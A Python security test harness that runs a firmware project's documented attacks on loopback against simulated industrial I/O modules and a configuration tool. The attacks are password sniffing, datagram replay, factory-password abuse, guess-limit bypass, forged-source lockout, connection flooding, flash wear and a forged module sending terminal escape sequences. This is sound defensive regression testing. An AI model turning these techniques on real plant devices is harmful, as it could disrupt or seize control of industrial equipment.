#!/usr/bin/env python3
"""Issue #20's findings as attacks, with real packets on loopback against the simulated modules
(the host build: the modules' own application over std sockets) and the `remodaq` tool of one
version of this repository.

    attacks.py BIN_DIR [--label NAME] [--only ATTACK]...

BIN_DIR holds firmware-8318, firmware-8350 and remodaq of the version under attack. The first
line is `attacks: N expected` (N: the attacks registered with @attack, or chosen with --only),
then one line per attack, `attack NAME: OUTCOME (what was seen)`, then a summary line
`attacks LABEL: N succeeded, N failed, N errors`. The outcomes:

- `succeeded`: the attack did what it set out to do.
- `failed`: the attack was refused. Shown, not assumed: its set-up and its positive control
  worked (the original change through the relay really happened, the datagram to replay was
  captured, the module was alive), the module answered with its refusal status where there is
  one, and nothing changed.
- `error`: neither was shown. An exception while setting up or running the attack, a positive
  control that did not hold, or an attack that did not succeed but whose refusal could not be
  shown (no answer, the module dead, another status). Never counted as a refusal.

The attacks speak both versions of the configuration protocol: 1 (the password in clear,
before issue #20) and 2 (challenge and proof), as an attacker who knows the target's firmware
would. scripts/attacks runs them against this tree (each must fail) and, with `--against REV`,
against an older commit (each must succeed there).

The board-bound findings (the SYN backlog, updates) are shown under QEMU by tools/qemu-e2e and
by scripts/update-key-check; the remodaq hygiene ones (keygen, strings, search list, net set)
here. Exit status 0 when every chosen attack printed its line, whatever the outcomes.
"""

import argparse
import base64
import hashlib
import hmac
import os
import re
import shutil
import signal
import socket
import stat
import struct
import subprocess
import sys
import tempfile
import threading
import time

sys.path.insert(0, os.path.dirname(os.path.abspath(__file__)))
from rdaq import (FACTORY_ITERATIONS, FACTORY_SALT, Modbus, allow_body, challenge_salt, command, label,  # noqa: E402
                  exchange, header, password_equivalents, search_raw)

BIN = "target/debug"
TMP = None
SIMS = []
FACTORY = "remodaq"
OWN = "plant password"

SUCCEEDED, REFUSED, ERROR = "succeeded", "failed", "error"


class NotShown(Exception):
    """A check the attack's verdict rests on did not hold: its set-up, its positive control, or
    the proof that it was refused. The outcome is `error`."""


def need(condition, what):
    if not condition:
        raise NotShown(what)


def verdict(succeeded, refused, seen):
    """SUCCEEDED when the attack's effect was seen, REFUSED when its refusal was shown, else
    the attack is an error: neither could be shown."""
    if succeeded:
        return SUCCEEDED, seen
    if refused:
        return REFUSED, seen
    raise NotShown(f"neither succeeded nor shown refused: {seen}")


def refusal_statuses(sim, statuses, refusal):
    """Whether every answer in `statuses` is the module's refusal: `refusal` (protocol version 2)
    or any non-zero status (version 1, which has no such status). No answer is no refusal."""
    if not statuses or None in statuses:
        return False
    return all(s == refusal for s in statuses) if sim.version == 2 else all(s != 0 for s in statuses)


def free_port():
    """A free TCP and UDP port on loopback."""
    while True:
        with socket.socket(socket.AF_INET, socket.SOCK_STREAM) as s:
            s.bind(("127.0.0.1", 0))
            port = s.getsockname()[1]
        try:
            with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as u:
                u.bind(("127.0.0.1", port))
            return port
        except OSError:
            continue


class Sim:
    """A simulated module of the version under attack. A restart replaces the process image in
    place (exec), so the process, and its process group, stay ours to stop."""

    def __init__(self, model, scenario=None, flash=None):
        self.model = model
        self.modbus = free_port()
        self.disc = free_port()
        self.flash = flash or os.path.join(TMP, f"{model}-{self.modbus}.flash")
        self.log_path = os.path.join(TMP, f"{model}-{self.modbus}.log")
        with open(self.log_path, "w") as log:
            self.proc = subprocess.Popen(
                [os.path.join(BIN, f"firmware-{model}"), "--listen", f"127.0.0.1:{self.modbus}",
                 "--discovery", f"127.0.0.1:{self.disc}", "--flash", self.flash]
                + (["--scenario", scenario] if scenario else []),
                stdout=log, stderr=subprocess.STDOUT, start_new_session=True)
        SIMS.append(self)
        deadline = time.monotonic() + 20
        while time.monotonic() < deadline:
            if self.proc.poll() is not None:
                raise NotShown(f"the {model} simulator exited with status {self.proc.returncode}: {self.log_tail()}")
            info = search_raw(self.disc)
            if info:
                self.mac = info["mac"]
                self.version = info["proto"]
                return
            time.sleep(0.1)
        raise NotShown(f"the {model} simulator did not answer a search within 20 s")

    def log_tail(self):
        with open(self.log_path, errors="replace") as f:
            return " | ".join(f.read().strip().splitlines()[-3:])

    def info(self, timeout=0.3):
        """INFO in the module's own protocol version (None: no answer)."""
        return search_raw(self.disc, timeout, versions=(self.version,))

    def stored(self):
        info = self.info(timeout=1.0)
        need(info is not None, f"the {self.model} module did not answer a search")
        return info["stored"]

    def uptime_at_least(self, seconds, within):
        """Waits until the module answers with an uptime of `seconds` or more."""
        deadline = time.monotonic() + within
        while time.monotonic() < deadline:
            info = self.info()
            if info and info["uptime"] >= seconds:
                return info["uptime"]
            time.sleep(0.2)
        raise NotShown(f"the module did not answer with an uptime of {seconds} s within {within} s")

    def __enter__(self):
        return self

    def __exit__(self, *_):
        self.stop()

    def stop(self):
        if self.proc.poll() is None:
            try:
                os.killpg(self.proc.pid, signal.SIGKILL)
            except ProcessLookupError:
                pass
        self.proc.wait()
        if self in SIMS:
            SIMS.remove(self)


def mac_text(sim):
    return ":".join(f"{b:02x}" for b in sim.mac)


def remodaq(*args, env=None, umask=-1):
    e = dict(os.environ)
    e.update(env or {})
    return subprocess.run([os.path.join(BIN, "remodaq"), *args], capture_output=True, text=True, env=e,
                          timeout=60, stdin=subprocess.DEVNULL, umask=umask)


def ok(r, what):
    """A remodaq run that must have worked (a positive control)."""
    need(r.returncode == 0, f"{what}: exit status {r.returncode}: {r.stderr.strip()[-300:]}")


def set_own_password(sim, password):
    """The administrator sets a password of its own (the parent's minimum length is 4)."""
    env = {"REMODAQ_PASSWORD": FACTORY, "REMODAQ_NEW_PASSWORD": password}
    args = ["password", "--mac", mac_text(sim), "--to", f"127.0.0.1:{sim.disc}"]
    if sim.version == 1:
        args += ["--new", password]
    ok(remodaq(*args, env=env), "remodaq password (set-up)")
    need(command(sim, 0x06, b"", password) == 0, "the new password is not in force (GET_ACCESS with it)")


def net_set(sim, to, ip, port, password=FACTORY, gateway="0.0.0.0"):
    return remodaq("net", "set", "--mac", mac_text(sim), "--to", f"127.0.0.1:{to}", "--ip", ip,
                   "--mask", "255.255.255.0", "--gateway", gateway, "--port", str(port),
                   env={"REMODAQ_PASSWORD": password})


def write_served(sim, src="127.0.0.1"):
    """A Modbus write of a persisted register (DI0 mode) from `src`: True if served, else the
    exception code."""
    m = Modbus(sim.modbus, src)
    try:
        return m.write(0x100, 1)
    finally:
        m.close()


# --- a relay that records what crosses the LAN ----------------------------------------------

class Relay:
    """Stands between the PC and the module, as a sniffer on the LAN sees it all: `captured`
    holds what the PC sent, `answers` what the module sent back."""

    def __init__(self, target):
        self.target = target
        self.sock = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
        self.sock.bind(("127.0.0.1", 0))
        self.port = self.sock.getsockname()[1]
        self.up = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
        self.up.bind(("127.0.0.1", 0))
        self.captured = []
        self.answers = []
        self.client = None
        self.running = True
        self.threads = [threading.Thread(target=self.down_loop, daemon=True),
                        threading.Thread(target=self.up_loop, daemon=True)]
        for t in self.threads:
            t.start()

    def down_loop(self):
        self.sock.settimeout(0.2)
        while self.running:
            try:
                data, self.client = self.sock.recvfrom(1024)
            except socket.timeout:
                continue
            self.captured.append(data)
            self.up.sendto(data, ("127.0.0.1", self.target))

    def up_loop(self):
        self.up.settimeout(0.2)
        while self.running:
            try:
                data = self.up.recv(1024)
            except socket.timeout:
                continue
            self.answers.append(data)
            if self.client:
                self.sock.sendto(data, self.client)

    def of(self, opcode):
        return [d for d in self.captured if len(d) > 5 and d[5] == opcode]

    def replay(self, opcode):
        """Sends the captured requests of `opcode` again, from another socket (the attacker);
        the status of each answer (None: no answer)."""
        statuses = []
        for data in self.of(opcode):
            reply = exchange(data, self.target, timeout=1.0)
            statuses.append(reply[14] if reply and len(reply) > 14 else None)
        return statuses

    def close(self):
        self.running = False
        for t in self.threads:
            t.join()
        self.sock.close()
        self.up.close()


# --- the attacks ---------------------------------------------------------------------------

ATTACKS = []


def attack(name, into=None):
    """Registers an attack: a function that returns (SUCCEEDED or REFUSED, what was seen), in
    `into` (another file's list of attacks) or this file's."""
    def wrap(f):
        (ATTACKS if into is None else into).append((name, f))
        return f
    return wrap


def run(name, f):
    try:
        outcome, seen = f()
        if outcome not in (SUCCEEDED, REFUSED):
            raise NotShown(f"no outcome: {outcome!r}")
    except Exception as e:  # an attack that could not be carried out, or not judged
        outcome, seen = ERROR, f"{type(e).__name__}: {e}"
    seen = seen.replace("\n", " ")
    print(f"attack {name}: {outcome} ({seen})", flush=True)
    return outcome


@attack("password-on-the-wire")
def password_on_the_wire():
    """A sniffer reads the configuration password, or what is worth as much, off a SET_NETWORK."""
    with Sim(8318) as sim:
        want = {"ip": "192.168.0.77", "mask": "255.255.255.0", "gateway": "192.168.0.254", "port": 8123}
        need(sim.stored() != want, "the module's settings are already the ones to set")
        relay = Relay(sim.disc)
        try:
            ok(net_set(sim, relay.port, want["ip"], want["port"], gateway=want["gateway"]),
               "net set through the relay")
            time.sleep(0.2)
        finally:
            relay.close()
        stored = sim.stored()
        need(stored == want, f"stored after net set through the relay: {stored}, not {want}")
        requests = relay.of(0x02)
        need(requests, "no SET_NETWORK captured")
        pw = FACTORY.encode()
        secrets = {"the password": pw, "the password in UTF-16": FACTORY.encode("utf-16-le"),
                   "the password in hex": pw.hex().encode(), "the password in base64": base64.b64encode(pw)[:9]}
        # The salt and iterations the module uses: from its CHALLENGE answers, and the factory
        # credential's (protocol/src/auth.rs), which is the one in force.
        sent = {challenge_salt(a) for a in relay.answers} - {None}
        if sim.version == 2:
            need(sent, "no CHALLENGE answer captured: the salt in use is unknown")
        salts = sent | {(FACTORY_SALT, FACTORY_ITERATIONS)}
        for salt, iterations in sorted(salts):
            for name, key in password_equivalents(pw, salt, iterations).items():
                secrets[f"{name} (salt {salt!r}, {iterations} iterations)"] = key
        keys_checked = ""
        if sim.version == 2:
            # The keys looked for are the ones in use: each captured proof (docs/discovery.md)
            # opens to ClientKey with the StoredKey of the salt the module sent.
            for salt, iterations in sent:
                keys = password_equivalents(pw, salt, iterations)
                for request in requests:
                    message = label(b"RDAQ discovery v2 request") + request[:46] + request[78:]
                    signature = hmac.new(keys["StoredKey"], message, hashlib.sha256).digest()
                    opened = bytes(a ^ b for a, b in zip(request[46:78], signature))
                    need(opened == keys["ClientKey"], "a captured proof does not open to the ClientKey computed here")
            keys_checked = ", the proofs open to the ClientKey computed here"
        # The salt is public (the module sends it), and the factory salt begins with the
        # factory password: blank it out before looking.
        wire = relay.captured + relay.answers
        scrubbed = list(wire)
        for salt, _ in salts:
            scrubbed = [d.replace(salt, bytes(len(salt))) for d in scrubbed]
        found = [name for name, secret in secrets.items() if any(secret in d for d in scrubbed)]
        seen = (f"net set through the relay: exit 0, stored {stored['ip']}:{stored['port']}; {len(wire)} datagrams "
                f"captured ({len(requests)} SET_NETWORK{keys_checked}), {len(secrets)} password equivalents looked "
                f"for (salts {', '.join(repr(salt) for salt, _ in sorted(salts))}): "
                f"found {', '.join(found) if found else 'none'}")
        return verdict(bool(found), not found, seen)


def replay_attack(model, opcode, setup, change, undo, after):
    """The administrator's `change` goes through a relay that records it, `undo` goes directly;
    then the attacker replays what the relay captured of `opcode`, and `after` judges."""
    with Sim(model) as sim:
        setup(sim)
        relay = Relay(sim.disc)
        try:
            change(sim, relay.port)
            time.sleep(0.2)
        finally:
            relay.close()
        captured = len(relay.of(opcode))
        need(captured, f"no datagram of opcode {opcode:02x} captured")
        undo(sim)
        statuses = relay.replay(opcode)
        time.sleep(0.3)
        return after(sim, statuses, captured)


@attack("replay-set-network")
def replay_set_network():
    """A captured SET_NETWORK, replayed after the administrator changed the settings again."""
    undone = {}

    def change(sim, port):
        ok(net_set(sim, port, "192.168.0.1", 8111), "net set --port 8111 through the relay")
        stored = sim.stored()
        need(stored["port"] == 8111, f"stored port after net set --port 8111: {stored['port']}")

    def undo(sim):
        ok(net_set(sim, sim.disc, "192.168.0.1", 8000), "net set --port 8000 (the administrator's next change)")
        undone.update(sim.stored())
        need(undone["port"] == 8000, f"stored port after net set --port 8000: {undone['port']}")

    def after(sim, statuses, captured):
        stored = sim.stored()
        seen = (f"{captured} SET_NETWORK captured (port 8111), the administrator's 8000 stored since; "
                f"replay answered {statuses}; stored port after the replay: {stored['port']}")
        return verdict(stored["port"] == 8111, stored == undone and refusal_statuses(sim, statuses, 6), seen)
    return replay_attack(8350, 0x02, lambda sim: None, change, undo, after)


@attack("replay-set-access")
def replay_set_access():
    """A captured SET_ACCESS (an allow-list that locks writes to 10.9.9.9), replayed after the
    administrator cleared the list."""
    pw = {"REMODAQ_PASSWORD": OWN}

    def setup(sim):
        set_own_password(sim, OWN)
        need(write_served(sim) is True, "a Modbus write before the allow-list was refused")

    def change(sim, port):
        ok(remodaq("access", "set", "--mac", mac_text(sim), "--to", f"127.0.0.1:{port}", "10.9.9.9/32", env=pw),
           "access set through the relay")
        written = write_served(sim)
        need(written is not True,
             "the allow-list set through the relay is not in force (a write from 127.0.0.1 served)")

    def undo(sim):
        ok(remodaq("access", "clear", "--mac", mac_text(sim), "--to", f"127.0.0.1:{sim.disc}", env=pw),
           "access clear")
        need(write_served(sim) is True, "after access clear, a write from 127.0.0.1 is still refused")

    def after(sim, statuses, captured):
        written = write_served(sim)
        shown = "served" if written is True else f"refused (exception {written})"
        seen = (f"{captured} SET_ACCESS captured (in force, then cleared); replay answered {statuses}; "
                f"a Modbus write from this PC after the replay: {shown}")
        return verdict(written is not True, written is True and refusal_statuses(sim, statuses, 6), seen)
    return replay_attack(8350, 0x07, setup, change, undo, after)


@attack("replay-restart")
def replay_restart():
    """A captured RESTART, replayed later: the module restarts again."""
    first = {}

    def setup(sim):
        sim.uptime_at_least(3, within=15)

    def change(sim, port):
        ok(remodaq("restart", "--mac", mac_text(sim), "--to", f"127.0.0.1:{port}",
                   env={"REMODAQ_PASSWORD": FACTORY}), "restart through the relay")
        # The module had run 3 s or more: an uptime under 2 s is the restart.
        deadline = time.monotonic() + 10
        while time.monotonic() < deadline and "uptime" not in first:
            info = sim.info()
            if info and info["uptime"] < 2:
                first["uptime"] = info["uptime"]
            time.sleep(0.1)
        need("uptime" in first, "the restart through the relay did not happen (no uptime under 2 s within 10 s)")

    def undo(sim):
        # Let the uptime grow again, so that a second restart shows.
        first["baseline"] = sim.uptime_at_least(3, within=15)

    def after(sim, statuses, captured):
        # A restart takes a moment to begin (the module answers first): watch for 4 s.
        seen = []
        deadline = time.monotonic() + 4
        while time.monotonic() < deadline:
            info = sim.info()
            if info:
                seen.append(info["uptime"])
            time.sleep(0.2)
        restarted = any(up < first["baseline"] for up in seen)
        rising = len(seen) >= 10 and all(a <= b for a, b in zip(seen, seen[1:])) and seen[-1] > seen[0]
        shown = f"{len(seen)} answers, uptime {seen[0]} to {seen[-1]} s" if seen else "no answer"
        desc = (f"the first restart seen (uptime {first['uptime']} s); replay at {first['baseline']} s answered "
                f"{statuses}; watched 4 s: {shown}")
        return verdict(restarted, rising and refusal_statuses(sim, statuses, 6), desc)
    return replay_attack(8318, 0x03, setup, change, undo, after)


@attack("factory-password-allow-list")
def factory_password_allow_list():
    """Anyone on the LAN uses the universal factory password to lock the module's writes."""
    with Sim(8350) as sim:
        need(command(sim, 0x06, b"", FACTORY) == 0, "GET_ACCESS with the factory password (the password in force)")
        need(write_served(sim) is True, "a Modbus write from 127.0.0.1 refused before the attack")
        status = command(sim, 0x07, allow_body([([10, 6, 6, 6], 32)]), FACTORY)
        written = write_served(sim)
        shown = "served" if written is True else f"refused (exception {written})"
        seen = (f"SET_ACCESS 10.6.6.6/32 with the factory password: status {status}; "
                f"a write from 127.0.0.1 after: {shown}")
        return verdict(status == 0 or written is not True,
                       written is True and refusal_statuses(sim, [status], 7), seen)


@attack("guessing-from-rotating-sources")
def rotating_sources():
    """40 wrong guesses, each from another source address: how many does the module check?"""
    with Sim(8318) as sim:
        # Sources inside the module's subnet (127.0.0.0/24 for the simulator): on loopback the
        # attacker sees the answers, as it does on a LAN for a source outside the module's
        # subnet (answered by broadcast).
        statuses = [command(sim, 0x06, b"", f"guess{i}", src=f"127.0.0.{i + 10}") for i in range(40)]
        alive = sim.info(timeout=1.0) is not None
        checked, limited = statuses.count(1), statuses.count(2)
        need(None not in statuses, f"{statuses.count(None)} of 40 guesses got no answer: {statuses}")
        seen = f"wrong guesses checked: {checked} of 40 (limited: {limited}); the module answers after: {alive}"
        # Refused: the checked ones first, then only "not checked" (status 2), and alive.
        in_order = statuses == [1] * checked + [2] * limited
        return verdict(checked == 40, alive and limited > 0 and in_order, seen)


def blind_guess(sim, src):
    """A wrong guess sent with a forged source address: the attacker never sees the answer (it
    goes to the real host), so it cannot ask for a nonce either."""
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as s:
        s.bind((src, 0))
        if sim.version == 1:
            s.sendto(header(1, 0x06, 9) + sim.mac + bytes([5]) + b"guess", ("127.0.0.1", sim.disc))
        else:
            s.sendto(header(2, 0x06, 9) + sim.mac + os.urandom(64), ("127.0.0.1", sim.disc))


@attack("lock-out-the-administrator")
def lock_out_admin():
    """Wrong guesses forged from the administrator's own address, two a second for 12 s; then the
    administrator's own command with the right password."""
    with Sim(8318) as sim:
        sent = 0
        end = time.time() + 12
        while time.time() < end:
            blind_guess(sim, "127.0.0.1")
            sent += 1
            time.sleep(0.5)
        need(sent >= 20, f"only {sent} forged guesses sent")
        status = command(sim, 0x06, b"", FACTORY, src="127.0.0.1")
        seen = f"{sent} forged guesses; the administrator's right password: status {status} (0 ok, 2 locked out)"
        return verdict(status == 2, status == 0, seen)


def allow_only_the_master(sim):
    """The administrator lets only the master (127.0.0.2) write: on this tree after setting a
    password of its own (the allow-list needs one), before issue #20 with the factory one."""
    if sim.version == 2:
        set_own_password(sim, OWN)
    status = command(sim, 0x07, allow_body([([127, 0, 0, 2], 32)]), OWN if sim.version == 2 else FACTORY)
    need(status == 0, f"the allow-list (set-up): status {status}")
    need(write_served(sim, "127.0.0.2") is True, "the master (on the allow-list) cannot write")
    need(write_served(sim, "127.0.0.1") is not True, "the allow-list is not in force (127.0.0.1 can write)")


@attack("evict-the-scada-master")
def evict_master():
    """The master (on the allow-list) polls once a second; 8 chatty connections from elsewhere
    and one more each 0.3 s."""
    with Sim(8350) as sim:
        allow_only_the_master(sim)
        master = Modbus(sim.modbus, "127.0.0.2")
        need(master.read(0xD2) is not None, "the master's first poll was not answered")
        stop = [False]
        chatter = {"connected": 0, "reads": 0}
        lock = threading.Lock()

        def chatty(i):
            try:
                m = Modbus(sim.modbus, f"127.0.1.{i}")
                with lock:
                    chatter["connected"] += 1
                while not stop[0]:
                    if m.read(0xD2) is not None:
                        with lock:
                            chatter["reads"] += 1
            except Exception:
                pass
        threads = [threading.Thread(target=chatty, args=(i + 1,), daemon=True) for i in range(8)]
        for t in threads:
            t.start()
        extra = []
        for i in range(15):
            time.sleep(0.3)
            try:
                extra.append(Modbus(sim.modbus, f"127.0.2.{i + 1}"))
            except Exception:
                pass
        try:
            served = master.read(0xD2) is not None
        except (OSError, ConnectionError):
            served = False
        stop[0] = True
        for t in threads:
            t.join(timeout=3)
        for m in extra + [master]:
            m.close()
        alive = sim.info(timeout=1.0) is not None
        need(alive, "the module does not answer a search after the attack")
        need(chatter["connected"] and chatter["reads"], f"the chatty clients never got through: {chatter}")
        seen = (f"{chatter['connected']} chatty clients ({chatter['reads']} reads served), {len(extra)} more "
                f"connected; the master's next poll: {'answered' if served else 'not answered'}")
        return verdict(not served, served, seen)


@attack("watchdog-fed-by-an-outsider")
def watchdog_outsider():
    """The master arms a 0.5 s host watchdog and goes silent; a client outside the allow-list
    keeps reading: do the outputs still reach their safe state?"""
    with Sim(8350) as sim:
        allow_only_the_master(sim)
        master = Modbus(sim.modbus, "127.0.0.2")
        need(master.write(0x132, 0) is True, "the master's write of the watchdog mode")
        need(master.write(0x130, 5) is True, "the master's write of the watchdog timeout")
        need(master.read(0x130) == [5], "the watchdog timeout does not read back 5")
        outsider = Modbus(sim.modbus, "127.0.0.9")
        tripped, answered = False, 0
        for _ in range(20):
            status = outsider.read(0x133)
            need(status is not None, "the outsider's read was not answered")
            answered += 1
            if status == [1]:
                tripped = True
                break
            time.sleep(0.1)
        outsider.close()
        master.close()
        state = "tripped" if tripped else "still fed after 2 s"
        seen = f"{answered} reads of the outsider answered; watchdog {state}"
        return verdict(not tripped, tripped, seen)


@attack("flash-wear")
def flash_wear():
    """300 alternating writes of a persisted register: how many reach the flash?"""
    budget = 100  # docs/security.md, "Flash wear": a burst of 100 after a power-on
    with Sim(8350) as sim:
        m = Modbus(sim.modbus)
        committed, refused, changed_anyway = 0, {}, 0
        for i in range(300):
            # Always the other value than the one in force: every write is a change to commit.
            now = m.read(0x100)[0]
            written = m.write(0x100, now % 2 + 1)
            if written is True:
                committed += 1
            else:
                refused[written] = refused.get(written, 0) + 1
                if m.read(0x100)[0] != now:
                    changed_anyway += 1
            if i == 0:
                need(written is True, f"the first write was not served: {written}")
        counted = m.read(0xFF)  # 40256: writes refused for the commit budget
        m.close()
        seen = (f"{committed} of 300 alternating writes committed, refused: "
                f"{', '.join(f'{n} with exception {c:02x}' for c, n in sorted(refused.items())) or 'none'}; "
                f"refused yet changed: {changed_anyway}; register 40256: {counted}")
        return verdict(committed == 300,
                       committed == budget and refused == {4: 300 - budget} and changed_anyway == 0
                       and counted == [300 - budget], seen)


def fake_module(version, name, stored_ip):
    """A forged module: answers a search with `name` and stored settings `stored_ip`, and
    records every datagram it gets."""
    s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    s.bind(("127.0.0.1", 0))
    got = []

    def serve():
        s.settimeout(0.2)
        end = time.time() + 30
        while time.time() < end:
            try:
                data, peer = s.recvfrom(1024)
            except socket.timeout:
                continue
            got.append(data)
            if len(data) >= 8 and data[5] == 0x01:
                net = bytes(stored_ip) + bytes([255, 255, 255, 0]) + bytes(4) + struct.pack(">H", 8000)
                info = (header(version, 0x81, struct.unpack(">H", data[6:8])[0]) + b"\x83\x18\xa1\x00"
                        + bytes([2, 9, 9, 9, 9, 9]) + net + net + struct.pack(">I", 5) + bytes([len(name)]) + name)
                info += b"\x00" + (bytes(8) if version == 2 else b"")
                s.sendto(info, peer)
        s.close()
    threading.Thread(target=serve, daemon=True).start()
    return s.getsockname()[1], got


FAKE_MAC = "02:09:09:09:09:09"


def protocol_version():
    """The configuration protocol of the version under attack (its simulator answers)."""
    with Sim(8318) as sim:
        return sim.version


@attack("forged-module-strings")
def forged_strings():
    """A forged module names itself with a terminal escape sequence: does remodaq print it?"""
    port, got = fake_module(protocol_version(), b"\x1b]0;pwned\x07\x1b[2J", [192, 168, 0, 9])
    r = remodaq("--timeout", "1", "search", "--to", f"127.0.0.1:{port}")
    ok(r, "remodaq search")
    need(any(len(d) > 5 and d[5] == 0x01 for d in got), "the forged module got no search")
    raw = "\x1b" in r.stdout or "\x07" in r.stdout
    listed = FAKE_MAC in r.stdout
    # Refused: the name shown with its control characters replaced by visible ones.
    escaped = re.search(r"[^\x00-\x1f\x7f]\]0;pwned[^\x00-\x1f\x7f]+\[2J", r.stdout) is not None
    shown = re.search(r".{0,4}\]0;pwned.{0,6}", r.stdout)
    seen = (f"the forged module listed: {listed}, its name shown as {shown.group(0)!r} " if shown else
            f"the forged module listed: {listed}, its name not shown ") + f"(escape characters printed raw: {raw})"
    return verdict(raw, listed and escaped, seen)


@attack("net-set-from-a-forged-search")
def net_set_forged():
    """`net set --port` fills the other fields from the search answer: a forged answer makes it
    store the attacker's address."""
    proto = protocol_version()
    port, got = fake_module(proto, b"RemoDAQ-8318", [6, 6, 6, 6])
    r = remodaq("--timeout", "1", "net", "set", "--mac", FAKE_MAC, "--to", f"127.0.0.1:{port}",
                "--port", "8001", env={"REMODAQ_PASSWORD": FACTORY})
    time.sleep(0.3)
    sent = any(len(d) > 5 and d[5] == 0x02 and bytes([6, 6, 6, 6]) in d for d in got)
    any_set = sum(1 for d in got if len(d) > 5 and d[5] == 0x02)
    required = r.returncode == 2 and "required" in r.stderr and "--ip" in r.stderr
    named = "the missing --ip named" if required else "no --ip required"
    seen = (f"net set --port alone: exit status {r.returncode}, {named}"
            f"; SET_NETWORK sent: {any_set}, with the forged address 6.6.6.6: {sent}")
    if not sent:
        # Positive control: the same command with every field reaches the forged module (a
        # CHALLENGE or a SET_NETWORK for its MAC), so nothing else kept it from sending.
        before = len(got)
        remodaq("--timeout", "1", "net", "set", "--mac", FAKE_MAC, "--to", f"127.0.0.1:{port}", "--ip",
                "192.168.0.9", "--mask", "255.255.255.0", "--gateway", "0.0.0.0", "--port", "8001",
                env={"REMODAQ_PASSWORD": FACTORY})
        time.sleep(0.3)
        reached = [d for d in got[before:] if len(d) > 5 and d[5] in (0x02, 0x08)]
        need(reached, "net set with every field given sent nothing to the forged module either")
        seen += f"; with every field given, {len(reached)} command datagrams reach it"
    return verdict(sent, required and any_set == 0, seen)


@attack("keygen-world-readable")
def keygen_mode():
    """`remodaq keygen`'s secret key file: can other users read it? (run with umask 022)"""
    key = os.path.join(TMP, "attack.key")
    r = remodaq("keygen", key, umask=0o022)
    ok(r, "remodaq keygen")
    need(os.path.isfile(key) and os.path.isfile(key + ".pub"), "keygen wrote no key file or no .pub")
    with open(key) as f:
        secret = f.read().strip()
    with open(key + ".pub") as f:
        public = f.read().strip()
    need(re.fullmatch(r"[0-9a-f]{64}", secret), "the secret key file is not 64 hex digits")
    need(re.fullmatch(r"[0-9a-f]{64}", public), "the public key file is not 64 hex digits")
    need(public in r.stdout and secret != public, "keygen's report does not show the public key of its .pub")
    mode = stat.S_IMODE(os.stat(key).st_mode)
    seen = f"a key of 64 hex digits and its .pub written; secret key mode {mode:o}"
    return verdict(bool(mode & 0o077), mode & 0o077 == 0 and mode & 0o600 == 0o600, seen)


def main(attacks=None, doc=None):
    """Runs `attacks` (default: this file's, issue #20's) against the binaries named on the
    command line."""
    global BIN, TMP
    attacks = ATTACKS if attacks is None else attacks
    parser = argparse.ArgumentParser(description=(doc or __doc__).split("\n\n")[0])
    parser.add_argument("bin", help="the directory of firmware-8318, firmware-8350 and remodaq")
    parser.add_argument("--label", help="the version's name in the summary line")
    parser.add_argument("--only", action="append", metavar="ATTACK", help="run only this attack (repeatable)")
    args = parser.parse_args()
    names = [name for name, _ in attacks]
    for name in args.only or []:
        if name not in names:
            parser.error(f"no attack {name!r} (attacks: {', '.join(names)})")
    chosen = [(name, f) for name, f in attacks if not args.only or name in args.only]
    BIN = args.bin
    print(f"attacks: {len(chosen)} expected", flush=True)
    TMP = tempfile.mkdtemp(prefix="remodaq-attacks-")
    try:
        outcomes = [run(name, f) for name, f in chosen]
    finally:
        for sim in list(SIMS):
            sim.stop()
        shutil.rmtree(TMP, ignore_errors=True)
    print(f"attacks {args.label or BIN}: {outcomes.count(SUCCEEDED)} succeeded, {outcomes.count(REFUSED)} failed, "
          f"{outcomes.count(ERROR)} errors")


if __name__ == "__main__":
    main()
